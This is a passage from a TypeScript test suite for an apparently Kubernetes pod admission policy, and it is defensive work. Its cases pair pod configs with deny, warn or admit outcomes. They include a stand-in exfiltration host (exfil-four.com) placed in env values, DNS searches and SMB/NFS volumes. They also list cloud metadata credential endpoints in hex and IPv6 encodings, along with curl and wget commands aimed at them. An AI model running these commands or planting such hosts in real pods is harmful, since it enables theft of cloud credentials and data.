      deny('properties bootstrap.servers=exfil-four.com:9092', envPod(['APP_PROPERTIES', 'group.id=orders\nbootstrap.servers=exfil-four.com:9092']), at.env(0), 'exfil-four.com'),
      deny('JSON holding a URL under a key that says nothing', envPod(['APP_CONFIG', '{"callback": "https://exfil-four.com/hook"}']), at.env(0), 'exfil-four.com'),
      admit('{"address": "redis.shop.svc"}', envPod(['APP_CONFIG', '{"address": "redis.shop.svc"}'])),
      admit('YAML host: redis', envPod(['APP_CONFIG_YAML', 'database:\n  host: redis\n  port: 5432\n'])),
      admit('YAML server host: 0.0.0.0 (a bind address)', envPod(['APP_CONFIG_YAML', 'server:\n  host: 0.0.0.0\n  port: 8080\n'])),
      admit('properties db.host=redis', envPod(['APP_PROPERTIES', 'db.host=redis\ndb.port=5432'])),
      warn('{"note": "exfil-four.com"} (a key that says nothing)', envPod(['APP_CONFIG', '{"note": "exfil-four.com"}']), 'exfil-four.com'),
      // A key whose name says what else its value is (a name, an id, a version) is quiet about bare names.
      admit('{"name": "exfil-four.com"} (a key that says its value is a name)', envPod(['APP_CONFIG', '{"name": "exfil-four.com"}'])),
      warn('properties app.title=exfil-four.com', envPod(['APP_PROPERTIES', 'app.title=exfil-four.com']), 'exfil-four.com'),
      deny('properties with a host and a password: the host denied, the password never echoed', envPod(['APP_PROPERTIES', `db.host=exfil-four.com\ndb.password=${PW}`]), at.env(0), undefined, { secret: PW }),
    ]);
  });

  describe('6. pod fields that hold a host, or hand one over', () => {
    const annotated = { 'example.com/target': 'exfil-four.com' };
    const podinfo = (path: string): Json => ({ volumes: [{ name: 'podinfo', downwardAPI: { items: [{ path, fieldRef: { fieldPath: TARGET_ANNOTATION } }] } }] });
    const mounted = { volumeMounts: [{ name: 'podinfo', mountPath: '/etc/podinfo' }] };
    table([
      // Every single-label name (`redis`, `metadata`) is tried as `<name>.exfil-four.com` too.
      deny('dnsConfig.searches: [exfil-four.com]', specPod({ dnsConfig: { searches: ['exfil-four.com'] } }), 'spec.dnsConfig.searches[0]', 'exfil-four.com'),
      deny('a public search domain after an in-cluster one', specPod({ dnsConfig: { searches: ['shop.svc.cluster.local', 'corp.exfil-four.com'] } }), 'spec.dnsConfig.searches[1]', 'corp.exfil-four.com'),
      admit('dnsConfig.searches: [shop.svc.cluster.local]', specPod({ dnsConfig: { searches: ['shop.svc.cluster.local'] } })),
      // The fieldRef hands the annotation's text to DB_HOST: the position is the variable, the
      // text is the pod's own, so the violation is reported where the value enters the
      // container, as a ConfigMap credential is reported at `valueFrom.configMapKeyRef`.
      deny("DB_HOST from the pod's own annotation through fieldRef", specPod({}, { annotations: annotated, container: { env: [fieldRef('DB_HOST', TARGET_ANNOTATION)] } }), 'spec.containers[0].env[0].valueFrom.fieldRef', 'exfil-four.com'),
      admit('an annotation holding a host that nothing hands over', specPod({}, { annotations: annotated })),
      admit('DB_HOST from an annotation that names a Service', specPod({}, { annotations: { 'example.com/target': 'redis' }, container: { env: [fieldRef('DB_HOST', TARGET_ANNOTATION)] } })),
      warn('a variable that says nothing, from the same annotation', specPod({}, { annotations: annotated, container: { env: [fieldRef('POD_NOTE', TARGET_ANNOTATION)] } }), 'exfil-four.com'),
      // Warn, not deny: a downwardAPI file is a host only to a program that opens it, and the
      // pod spec says neither which program reads /etc/podinfo/db_host nor how; the file name
      // is a hint of the same kind as an unknown variable name, which is warned about. A
      // variable is a position because programs and libraries read `*_HOST` by convention
      // (PGHOST, REDIS_HOST); no such convention gives a file name a meaning.
      warn('a downwardAPI volume item db_host holding the annotation', specPod(podinfo('db_host'), { annotations: annotated, container: mounted }), 'exfil-four.com'),
      admit('a downwardAPI volume item db_host holding an annotation that names a Service', specPod(podinfo('db_host'), { annotations: { 'example.com/target': 'redis' }, container: mounted })),
      deny('CSI smb.csi.k8s.io volumeAttributes.source: //exfil-four.com/share', csiVolume('smb.csi.k8s.io', { source: '//exfil-four.com/share' }), 'spec.volumes[0].csi.volumeAttributes.source', 'exfil-four.com'),
      deny('CSI nfs.csi.k8s.io volumeAttributes.server: exfil-four.com', csiVolume('nfs.csi.k8s.io', { server: 'exfil-four.com', share: '/export' }), 'spec.volumes[0].csi.volumeAttributes.server', 'exfil-four.com'),
      admit('CSI smb source in the cluster', csiVolume('smb.csi.k8s.io', { source: '//smb.storage.svc.cluster.local/share' })),
      admit('CSI nfs server on an internal address', csiVolume('nfs.csi.k8s.io', { server: '10.0.12.5', share: '/export' })),
      deny('flexVolume.options.server: exfil-four.com', specPod({ volumes: [{ name: 'v', flexVolume: { driver: 'example.com/cifs', options: { server: 'exfil-four.com', share: 'data' } } }] }), 'spec.volumes[0].flexVolume.options.server', 'exfil-four.com'),
      notDenied("DB_PASSWORD from the pod's own annotation: never echoed", specPod({}, { annotations: { 'example.com/db-password': PW }, container: { env: [fieldRef('DB_PASSWORD', "metadata.annotations['example.com/db-password']")] } }), PW, { secret: PW }),
    ]);
  });

  describe('7. cloud metadata, in every form', () => {
    table([
      deny('http://169.254.169.254/', envPod(['NOTE', 'http://169.254.169.254/']), at.env(0), '169.254.169.254'),
      deny('http://[::ffff:169.254.169.254]/', envPod(['NOTE', 'http://[::ffff:169.254.169.254]/']), at.env(0)),
      deny('http://[::ffff:a9fe:a9fe]/', envPod(['NOTE', 'http://[::ffff:a9fe:a9fe]/']), at.env(0)),
      deny('http://metadata/computeMetadata/v1/ (the single label GKE resolves)', envPod(['NOTE', 'http://metadata/computeMetadata/v1/']), at.env(0), 'metadata'),
      deny('http://metadata.google.internal/', envPod(['NOTE', 'http://metadata.google.internal/']), at.env(0), 'metadata.google.internal'),
      deny('http://169.254.170.2/v2/credentials (ECS task credentials)', envPod(['NOTE', 'http://169.254.170.2/v2/credentials']), at.env(0), '169.254.170.2'),
      deny('http://169.254.170.23/v1/credentials (EKS Pod Identity)', envPod(['NOTE', 'http://169.254.170.23/v1/credentials']), at.env(0), '169.254.170.23'),
      deny('http://[fd00:ec2::23]/ (EKS Pod Identity over IPv6)', envPod(['NOTE', 'http://[fd00:ec2::23]/']), at.env(0), 'fd00:ec2::23'),
      deny('http://[fd00:ec2::254]/ (EC2 IMDS over IPv6)', envPod(['NOTE', 'http://[fd00:ec2::254]/']), at.env(0), 'fd00:ec2::254'),
      deny('http://100.100.100.200/latest/meta-data (Alibaba Cloud)', envPod(['NOTE', 'http://100.100.100.200/latest/meta-data']), at.env(0), '100.100.100.200'),
      deny('curl 169.254.169.254/latest/meta-data (no scheme)', cmdPod(['curl', '169.254.169.254/latest/meta-data']), at.command(1), '169.254.169.254'),
      deny('wget 0xa9fea9fe/ (hex, no scheme)', cmdPod(['wget', '0xa9fea9fe/']), at.command(1), '169.254.169.254'),
      deny('the metadata URL in an sh -c script', shPod('curl -s -X PUT http://169.254.169.254/latest/api/token && echo ok'), at.command(2), '169.254.169.254'),
      // The kubelet leaves `$(curl …)` as written (no such variable), and the shell runs it.
      deny('the metadata URL inside a shell command substitution TOKEN=$(curl …)', shPod('TOKEN=$(curl -s http://169.254.169.254/latest/api/token) && echo ok'), at.command(2), '169.254.169.254'),
      admit('http://metadata.shop.svc.cluster.local/ (a Service named metadata, fully qualified)', envPod(['NOTE', 'http://metadata.shop.svc.cluster.local/'])),
      admit('http://metadata-api:8080/ (a single-label Service)', envPod(['NOTE', 'http://metadata-api:8080/'])),
      deny('curl -u with a password to the metadata address: denied, the password never echoed', shPod(`curl -fsS -u admin:${PW} http://169.254.169.254/latest/meta-data/`), at.command(2), undefined, { secret: PW }),
    ]);
  });
});
